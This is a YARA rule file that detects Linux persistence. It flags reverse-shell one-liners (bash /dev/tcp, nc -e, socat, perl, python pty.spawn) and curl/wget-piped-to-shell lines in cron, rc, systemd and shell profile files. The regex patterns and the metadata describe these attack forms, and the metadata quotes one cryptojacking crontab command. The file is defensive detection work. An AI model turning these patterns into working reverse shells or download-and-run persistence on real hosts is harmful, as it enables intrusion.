/*
 * Reverse shells and download-and-run one-liners in the files that run by
 * themselves: cron, rc scripts, systemd units, shell profiles. The external
 * variable awp_path (the file's path inside the scanned filesystem) limits
 * these rules to those places, where such a line has no innocent reason to
 * be (documentation and shells' own sources contain the same words).
 * Patterns: the classic one-liners collected in public pentest references
 * (PayloadsAllTheThings "Reverse Shell Cheatsheet", pentestmonkey) and seen
 * in incident reports on Linux persistence (MITRE ATT&CK T1053.003 cron,
 * T1543.002 systemd service, T1546.004 shell configuration).
 */
rule Persistence_Reverse_Shell
{
    meta:
        needs_strings = true
        description = "reverse shell one-liner in a cron, rc, systemd or shell profile file"
        source = "reverse-shell forms from public pentest references (bash /dev/tcp, nc -e, python pty.spawn, socat exec, perl Socket); MITRE ATT&CK T1053.003, T1543.002, T1546.004"
        severity = "critical"
        kind = "persistence"
        remediation = "Remove the line, find who added it (file mtime, shell history, logs), and treat the host as compromised."
        scope = "persistence"
    strings:
        $bash1 = /bash -i >& ?\/dev\/tcp\// ascii
        $bash2 = /\/dev\/tcp\/[0-9a-zA-Z.\-]{3,64}\/[0-9]{1,5} 0>&1/ ascii
        $nc1 = /nc(at)? [^\n]{0,40}-e \/bin\/(ba)?sh/ ascii
        $nc2 = /mkfifo [^\n]{0,60}\| ?nc / ascii
        $py = "pty.spawn(" ascii
        $socat = /socat [^\n]{0,80}exec:['"]?\/bin\/(ba)?sh/ ascii nocase
        $perl = /perl -e [^\n]{0,40}use Socket;/ ascii
    condition:
        any of them and
        awp_path matches /^\/(etc\/(cron|anacrontab|init\.d\/|rc|systemd\/|profile|bash\.bashrc|bashrc|environment)|var\/spool\/cron\/|(usr\/)?lib\/systemd\/|root\/\.|home\/[^\/]+\/\.)/
}

rule Persistence_Download_And_Execute
{
    meta:
        needs_strings = true
        description = "cron, rc, systemd or profile entry that downloads a script and runs it"
        source = "cryptojacking and botnet persistence in public reports (Kinsing, TeamTNT, WatchDog: 'curl -fsSL http://IP/x.sh | sh' in crontab); MITRE ATT&CK T1053.003, T1105"
        severity = "high"
        kind = "persistence"
        remediation = "Check what the downloaded script does and who added the entry; remove it unless it is a known, legitimate job (prefer signed packages over curl|sh)."
        scope = "persistence"
    strings:
        $pipe = /(curl|wget) [^\n]{1,300}\| ?(ba|da)?sh\b/ ascii
        $then = /(curl|wget) [^\n]{1,300}(&&|;) ?(ba|da)?sh [^\n]{1,100}/ ascii
    condition:
        any of them and
        awp_path matches /^\/(etc\/(cron|anacrontab|init\.d\/|rc|systemd\/|profile|bash\.bashrc|bashrc)|var\/spool\/cron\/|(usr\/)?lib\/systemd\/|root\/\.|home\/[^\/]+\/\.)/
}
